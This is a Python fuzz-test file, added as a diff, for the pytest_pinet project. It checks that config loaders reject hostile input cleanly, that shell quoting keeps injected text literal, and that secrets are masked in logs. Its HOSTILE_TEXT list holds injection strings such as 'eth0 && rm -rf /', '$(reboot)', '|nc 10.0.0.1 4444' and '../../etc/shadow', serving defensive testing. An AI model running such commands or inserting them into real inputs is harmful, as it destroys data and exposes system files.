@@ -1,0 +1,244 @@
+"""Hostile input, fuzzed: every user file and option either loads or fails with a ConfigError
+naming its source; no other exception, no traceback.  Commands built from hostile text reach
+a real shell as literal arguments (no injection), and registered secrets never come out.
+
+Each input is a valid file (the shipped thresholds and profiles, a lab env file) with one
+part replaced by something hostile: shell metacharacters, command substitutions, path
+traversal, newlines, control characters, huge or negative numbers, wrong types, unknown keys.
+"""
+
+from __future__ import annotations
+
+import copy
+import logging
+import subprocess
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any, TypeVar
+
+import pytest
+import yaml
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from pytest_pinet import secrets
+from pytest_pinet.errors import ConfigError, PinetError
+from pytest_pinet.judge.thresholds import Thresholds, load_thresholds, thresholds_from_data
+from pytest_pinet.lab.inventory import Inventory, inventory_from_data, load_inventory
+from pytest_pinet.lab.profiles import Profile, profiles_from_data
+from pytest_pinet.lab.remote import quote
+from pytest_pinet.settings import coordinator_address, place_tags, positive_int
+
+ROOT = Path(__file__).resolve().parents[2]
+T = TypeVar("T")
+EXAMPLES = 300
+
+HOSTILE_TEXT = [
+    "eth0; reboot",
+    "$(reboot)",
+    "`id`",
+    "eth0 && rm -rf /",
+    "../../etc/shadow",
+    "eth0\nreboot",
+    "'; DROP TABLE measurements; --",
+    "|nc 10.0.0.1 4444",
+    "eth0>/dev/sda",
+    "\x00",
+    "\x1b[2J",
+    "a" * 5000,
+    "",
+    " ",
+    "-rf",
+    "--help",
+    "${IFS}",
+    "* ?",
+    "üñí©ødé",
+    "!template $HOME",
+]
+HOSTILE = st.one_of(
+    st.sampled_from(HOSTILE_TEXT),
+    st.text(max_size=40),
+    st.integers(min_value=-(2**70), max_value=2**70),
+    st.floats(allow_nan=True, allow_infinity=True),
+    st.booleans(),
+    st.none(),
+    st.lists(st.sampled_from(HOSTILE_TEXT), max_size=3),
+    st.dictionaries(st.sampled_from(HOSTILE_TEXT), st.sampled_from(HOSTILE_TEXT), max_size=2),
+)
+
+
+def _paths(data: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
+    """Every key path into nested dicts and lists."""
+    found = [prefix] if prefix else []
+    if isinstance(data, dict):
+        for key, value in data.items():
+            found += _paths(value, (*prefix, key))
+    elif isinstance(data, list):
+        for index, value in enumerate(data):
+            found += _paths(value, (*prefix, index))
+    return found
+
+
+@st.composite
+def mutated(draw: st.DrawFn, valid: Any) -> Any:
+    """``valid`` with one value replaced, one key renamed, or one key added, hostilely."""
+    data = copy.deepcopy(valid)
+    paths = _paths(data)
+    path = draw(st.sampled_from(paths))
+    parent = data
+    for part in path[:-1]:
+        parent = parent[part]
+    how = draw(st.sampled_from(["value", "key", "extra"]))
+    if how == "value" or not isinstance(parent, dict):
+        parent[path[-1]] = draw(HOSTILE)
+    elif how == "key":
+        parent[draw(st.sampled_from(HOSTILE_TEXT))] = parent.pop(path[-1])
+    else:
+        parent[draw(st.sampled_from(HOSTILE_TEXT))] = draw(HOSTILE)
+    return data
+
+
+def _yaml(name: str) -> Any:
+    return yaml.safe_load((ROOT / "lab" / name).read_text())
+
+
+def _env_file(tmp: Path) -> dict[str, Any]:
+    (tmp / "known_hosts").write_text("10.0.0.1 ssh-ed25519 AAAA\n")
+    data = yaml.safe_load((ROOT / "lab" / "examples" / "rpi-lab.yaml").read_text())
+    data["pinet"]["ssh"] = {"known_hosts": str(tmp / "known_hosts")}
+    return dict(data)
+
+
+def loads_or_names(source: str, load: Callable[[], T]) -> T | None:
+    """``load()``'s result, or None after a ConfigError that starts with ``source``; any
+    other exception fails the test (it would reach the user as a traceback)."""
+    try:
+        return load()
+    except ConfigError as exc:
+        error = exc
+    assert str(error).startswith(source), error
+    return None
+
+
+FUZZ = settings(
+    max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+
+
+@FUZZ
+@given(st.data())
+def test_hostile_thresholds_load_or_name_their_source(data):
+    hostile = data.draw(mutated(_yaml("thresholds.yaml")))
+    loaded = loads_or_names(
+        "fuzzed-thresholds.yaml", lambda: thresholds_from_data(hostile, "fuzzed-thresholds.yaml")
+    )
+    assert loaded is None or isinstance(loaded, Thresholds)
+
+
+@FUZZ
+@given(st.data())
+def test_hostile_profiles_load_or_name_their_source(data):
+    hostile = data.draw(mutated(_yaml("profiles.yaml")))
+    loaded = loads_or_names(
+        "fuzzed-profiles.yaml", lambda: profiles_from_data(hostile, "fuzzed-profiles.yaml")
+    )
+    assert loaded is None or all(isinstance(profile, Profile) for profile in loaded.values())
+
+
+@FUZZ
+@given(st.data())
+def test_hostile_env_files_load_or_name_their_source(tmp_path, data):
+    hostile = data.draw(mutated(_env_file(tmp_path)))
+    inventory = loads_or_names(
+        "fuzzed-env.yaml", lambda: inventory_from_data(hostile, Path("fuzzed-env.yaml"))
+    )
+    if inventory is None:
+        return
+    assert isinstance(inventory, Inventory)
+    # What loaded is safe to put into a command: names are plain, addresses are addresses.
+    for link in inventory.links:
+        for name in (link.board_interface, link.peer_interface):
+            assert name == quote([name]), name
+
+
+@FUZZ
+@given(st.binary(max_size=300))
+def test_any_bytes_as_an_env_file_fail_cleanly(tmp_path, blob):
+    path = tmp_path / "garbage.yaml"
+    path.write_bytes(blob)
+    loads_or_names(str(path), lambda: load_inventory(path))
+
+
+@FUZZ
+@given(st.binary(max_size=300))
+def test_any_bytes_as_a_thresholds_file_fail_cleanly(tmp_path, blob):
+    path = tmp_path / "garbage-thresholds.yaml"
+    path.write_bytes(blob)
+    loads_or_names(str(path), lambda: load_thresholds(path))
+
+
+def test_unknown_tunable_is_named():
+    data = _yaml("profiles.yaml")
+    name = next(iter(data["profiles"]))
+    data["profiles"][name]["board"] = {"turbo_boost": "on"}
+    with pytest.raises(ConfigError) as info:
+        profiles_from_data(data, "profiles.yaml")
+    assert "turbo_boost" in str(info.value) and "profiles.yaml" in str(info.value)
+
+
+@FUZZ
+@given(st.text(max_size=60))
+def test_option_values_parse_or_name_the_option(text):
+    loads_or_names("--pinet-option", lambda: coordinator_address(text, "--pinet-option"))
+    loads_or_names("--pinet-option", lambda: place_tags(text, "--pinet-option"))
+    loads_or_names("--pinet-option", lambda: positive_int(text, "--pinet-option"))
+
+
+ARGUMENT = st.one_of(
+    st.sampled_from(HOSTILE_TEXT[:-11] + HOSTILE_TEXT[-10:]),  # all but the NUL byte
+    st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\x00"), max_size=30),
+)
+
+
+@settings(max_examples=EXAMPLES, deadline=None)
+@given(st.lists(ARGUMENT, min_size=1, max_size=6))
+def test_quoted_commands_reach_a_real_shell_as_literal_arguments(argv):
+    # The remote side runs the line through a POSIX shell: so does this test.  printf gets
+    # exactly our arguments back, whatever they contain, or the quoting let something through.
+    line = quote(["printf", "%s\\0", *argv])
+    done = subprocess.run(["sh", "-c", line], capture_output=True, check=True)
+    assert done.stdout.decode("utf-8", "surrogateescape").split("\0")[:-1] == argv
+
+
+def test_secrets_are_masked_in_logs_facts_and_text(tmp_path, caplog):
+    from pytest_pinet.record.results_dir import ResultsDir
+
+    secret = "hunter2-lab-Pa55"
+    secrets.register(secret)
+    with caplog.at_level(logging.DEBUG):
+        logging.getLogger("paramiko.transport").debug("auth with password %s failed", secret)
+        logging.getLogger("pytest_pinet.lab.remote").warning(f"login as root:{secret}@10.0.0.1")
+    assert secret not in caplog.text and "***" in caplog.text
+    results = ResultsDir(tmp_path, "run1")
+    results.record_fact("lab-fault", {"message": f"ssh root:{secret}@pc failed", "nested": [secret]})
+    written = (tmp_path / "run1" / "facts.jsonl").read_text()
+    assert secret not in written and written.count("***") == 2
+    assert secrets.mask(f"x{secret}y") == "x***y"
+    assert secrets.mask("no secret here") == "no secret here"
+
+
+def test_env_file_password_is_registered_and_never_repr(tmp_path):
+    data = _env_file(tmp_path)
+    target = next(iter(data["targets"].values()))
+    target["resources"]["NetworkService"]["password"] = "pw-from-env-file-77"
+    inventory = inventory_from_data(data, Path("env.yaml"))
+    assert all("pw-from-env-file-77" not in repr(h.endpoint) for h in inventory.hosts.values())
+    assert secrets.mask("leak: pw-from-env-file-77") == "leak: ***"
+
+
+def test_pinet_errors_never_carry_a_traceback_for_bad_files(tmp_path):
+    path = tmp_path / "env.yaml"
+    path.write_text("targets: [\n")
+    with pytest.raises(PinetError) as info:
+        load_inventory(path)
+    assert "malformed YAML at line" in str(info.value)
